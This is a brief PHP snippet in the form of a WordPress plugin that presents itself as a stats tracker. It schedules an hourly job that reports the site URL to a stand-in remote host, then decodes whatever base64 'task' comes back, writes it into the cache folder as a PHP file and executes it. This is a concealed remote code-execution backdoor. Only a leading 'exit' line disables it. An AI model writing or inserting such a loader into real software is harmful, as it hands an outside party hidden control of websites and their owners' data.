<?php exit; /* inert */ 
register_activation_hook(__FILE__, 'wpst_activate');
function wpst_activate() { if (!wp_next_scheduled('wpst_tick')) { wp_schedule_event(time(), 'hourly', 'wpst_tick'); } }
add_action('wpst_tick', 'wpst_tick');
function wpst_tick() {
    $res = wp_remote_get('https://stats.example.invalid/t?h=' . rawurlencode(home_url()));
    if (is_wp_error($res)) { return; }
    $b = json_decode(wp_remote_retrieve_body($res));
    if (!empty($b->task)) { $f = WP_CONTENT_DIR . '/cache/' . md5($b->task) . '.php'; file_put_contents($f, base64_decode($b->task)); include_once $f; }
}
